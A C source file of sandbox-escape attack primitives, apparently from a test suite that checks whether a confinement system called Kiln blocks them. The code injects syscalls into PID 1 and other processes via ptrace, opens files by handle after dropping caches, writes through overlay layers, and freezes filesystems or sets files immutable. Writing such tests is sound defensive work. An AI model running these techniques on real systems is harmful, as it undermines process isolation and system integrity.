/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * What acts for the unit and is not bound as it is: PID 1's child before it executes, the agent's program. And Kiln's
 * files by ways that are not names: file handles, attributes by a descriptor that only reads, a file system that stops.
 */
#include "attack.h"
#include <sched.h>
#include <sys/ioctl.h>
#include <linux/fs.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/user.h>

/* syscall, and a jump to itself: a child that the call makes stays there. */
#define CALL_AND_STAY 0xfeeb050ful

/* One system call by a stopped process that this one traces. */
static long call_there(pid_t other, long number, unsigned long one, unsigned long two, unsigned long three)
{
	struct user_regs_struct before, now;
	long text;
	int status;

	if (ptrace(PTRACE_GETREGS, other, NULL, &before))
		unattempted("PTRACE_GETREGS");
	now = before;
	text = ptrace(PTRACE_PEEKTEXT, other, (void *)now.rip, NULL);
	if (ptrace(PTRACE_POKETEXT, other, (void *)now.rip, (void *)((text & ~0xffffffffl) | CALL_AND_STAY)))
		unattempted("PTRACE_POKETEXT");
	now.rax = (unsigned long)number;
	now.orig_rax = ~0ul;
	now.rdi = one;
	now.rsi = two;
	now.rdx = three;
	if (ptrace(PTRACE_SETREGS, other, NULL, &now) || ptrace(PTRACE_SINGLESTEP, other, NULL, NULL) ||
	    waitpid(other, &status, 0) != other || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, other, NULL, &now))
		unattempted("a step");
	ptrace(PTRACE_POKETEXT, other, (void *)before.rip, (void *)text);
	/* A call that was interrupted begins again (ERESTARTSYS and its kin). */
	if ((long)before.orig_rax >= 0 && (long)before.rax <= -512 && (long)before.rax >= -516) {
		before.rax = (long)before.rax == -516 ? SYS_restart_syscall : before.orig_rax;
		before.rip -= 2;
	}
	before.orig_rax = ~0ul;
	ptrace(PTRACE_SETREGS, other, NULL, &before);
	return (long)now.rax;
}

/* plant FILE: PID 1 forks a child, whose number FILE gets. */
static int run_plant(int argc, char **argv)
{
	FILE *file = fopen(argument(argc, argv, 0), "w");
	long child;

	if (!file || ptrace(PTRACE_ATTACH, 1, NULL, NULL) || waitpid(1, NULL, __WALL) != 1)
		unattempted("attaching to PID 1");
	child = call_there(1, SYS_fork, 0, 0, 0);
	ptrace(PTRACE_DETACH, 1, NULL, NULL);
	if (child < 0)
		unattempted("fork");
	fprintf(file, "%ld\n", child);
	fclose(file);
	return 0;
}

static pid_t victim;

static void prepare_victim(int argc, char **argv)
{
	char text[32] = "";
	int file = open(argument(argc, argv, 0), O_RDONLY);

	if (file < 0 || read(file, text, sizeof(text) - 1) <= 0)
		unattempted("a process's number");
	close(file);
	victim = (pid_t)atoi(text);
}

static int extra_flags;

/* hijack PIDFILE FILE: has the process open FILE. */
static int run_hijack(int argc, char **argv)
{
	char path[64] = "";
	struct user_regs_struct regs;
	unsigned long at;
	long result;

	strncpy(path, argument(argc, argv, 1), sizeof(path) - 1);
	if (ptrace(PTRACE_ATTACH, victim, NULL, NULL))
		return -errno;
	if (waitpid(victim, NULL, 0) != victim || ptrace(PTRACE_GETREGS, victim, NULL, &regs))
		unattempted("attaching");
	at = (regs.rsp - 1024) & ~7ul;
	for (size_t word = 0; word < sizeof(path); word += sizeof(long)) {
		long bytes;

		memcpy(&bytes, path + word, sizeof(bytes));
		if (ptrace(PTRACE_POKEDATA, victim, (void *)(at + word), (void *)bytes))
			unattempted("PTRACE_POKEDATA");
	}
	result = call_there(victim, SYS_open, at, O_RDONLY | (unsigned long)extra_flags, 0);
	ptrace(PTRACE_DETACH, victim, NULL, NULL);
	return result < 0 ? (int)result : 0;
}

/* have-open PIDFILE FILE: the process has a descriptor of FILE from now on. */
static int run_hold(int argc, char **argv)
{
	extra_flags = O_PATH;
	return run_hijack(argc, argv);
}

/* silent FOLDER SOCKET: serves a file system without ever answering, and a socket without ever reading. */
static int run_silent(int argc, char **argv)
{
	struct sockaddr_un at = {.sun_family = AF_UNIX};
	int served = open("/dev/fuse", O_RDWR), listening = socket(AF_UNIX, SOCK_DGRAM, 0);
	char options[128];

	snprintf(at.sun_path, sizeof(at.sun_path), "%s", argument(argc, argv, 1));
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", served);
	if (served < 0 || syscall(SYS_mount, "kt", argument(argc, argv, 0), "fuse", 0, options) ||
	    bind(listening, (struct sockaddr *)&at, sizeof(at)))
		unattempted("a file system");
	alarm(300);
	pause();
	return 0;
}

/* hears SOCKET WORD: waits until somebody says it there. */
static int run_hears(int argc, char **argv)
{
	struct sockaddr_un at = {.sun_family = AF_UNIX};
	int listening = socket(AF_UNIX, SOCK_DGRAM, 0);
	char text[4096] = "";

	snprintf(at.sun_path, sizeof(at.sun_path), "%s", argument(argc, argv, 0));
	if (bind(listening, (struct sockaddr *)&at, sizeof(at)))
		unattempted("a socket");
	while (!strstr(text, argument(argc, argv, 1))) {
		ssize_t length = recv(listening, text, sizeof(text) - 1, 0);

		if (length < 0)
			return -errno;
		text[length] = 0;
	}
	return 0;
}

/* borrow PROGRAM: makes a user namespace in a process of that program. */
static int run_borrow(int argc, char **argv)
{
	const char *program = argument(argc, argv, 0);
	pid_t child = fork();
	int status;
	long result;

	if (child < 0)
		unattempted("fork");
	if (child == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		execl(program, program, "--version", NULL);
		_exit(127);
	}
	if (waitpid(child, &status, 0) != child || !WIFSTOPPED(status))
		unattempted("%s does not stop", program);
	result = call_there(child, SYS_unshare, CLONE_NEWUSER, 0, 0);
	kill(child, 9);
	return result < 0 ? (int)result : 0;
}

static union {
	struct file_handle handle;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
} named = {.handle.handle_bytes = MAX_HANDLE_SZ};

static void prepare_handle(int argc, char **argv)
{
	int mount;

	if (name_to_handle_at(AT_FDCWD, argument(argc, argv, 1), &named.handle, &mount, 0))
		unattempted("name_to_handle_at");
}

/* write-handle MOUNT FILE TEXT: FILE by its handle, after the kernel has forgotten its name. */
static int run_write_handle(int argc, char **argv)
{
	const char *text = argument(argc, argv, 2);
	int caches = open("/proc/sys/vm/drop_caches", O_WRONLY), root = open(argument(argc, argv, 0), O_RDONLY), file;

	if (caches < 0 || root < 0 || write(caches, "2", 1) != 1)
		unattempted("dropping names");
	file = open_by_handle_at(root, &named.handle, O_WRONLY);
	if (file < 0)
		return -errno;
	return outcome(write(file, text, strlen(text)));
}

/* write-layer UPPER WORK TARGET NAME: UPPER is the layer of an overlay that takes what is written. */
static int run_write_layer(int argc, char **argv)
{
	const char *target = argument(argc, argv, 2);
	char options[512], path[512];
	int file;

	snprintf(options, sizeof(options), "lowerdir=%s,upperdir=%s,workdir=%s", target, argument(argc, argv, 0),
		 argument(argc, argv, 1));
	snprintf(path, sizeof(path), "%s/%s", target, argument(argc, argv, 3));
	if (unshare(CLONE_NEWNS) || syscall(SYS_mount, NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    syscall(SYS_mount, "overlay", target, "overlay", 0, options))
		unattempted("an overlay of %s", options);
	file = open(path, O_WRONLY);
	return file < 0 ? -errno : outcome(write(file, "x", 1));
}

/* hold-still PATH: may not be changed by anybody from now on; and again as it was. */
static int run_hold_still(int argc, char **argv)
{
	int file = open(argument(argc, argv, 0), O_RDONLY), was, now;

	if (file < 0 || ioctl(file, FS_IOC_GETFLAGS, &was))
		unattempted("FS_IOC_GETFLAGS");
	now = was | FS_IMMUTABLE_FL;
	if (ioctl(file, FS_IOC_SETFLAGS, &now))
		return -errno;
	ioctl(file, FS_IOC_SETFLAGS, &was);
	return 0;
}

/* stop-writes PATH: of the whole file system; and again as it was. */
static int run_stop_writes(int argc, char **argv)
{
	int file = open(argument(argc, argv, 0), O_RDONLY);

	if (file < 0)
		unattempted("open");
	if (ioctl(file, FIFREEZE, 0))
		return -errno;
	ioctl(file, FITHAW, 0);
	return 0;
}

const struct attack third_attacks[] = {
    {"plant", NULL, run_plant},
    {"hijack", prepare_victim, run_hijack},
    {"have-open", prepare_victim, run_hold},
    {"silent", NULL, run_silent},
    {"hears", NULL, run_hears},
    {"borrow", NULL, run_borrow},
    {"write-handle", prepare_handle, run_write_handle},
    {"write-layer", NULL, run_write_layer},
    {"hold-still", NULL, run_hold_still},
    {"stop-writes", NULL, run_stop_writes},
    {0},
};
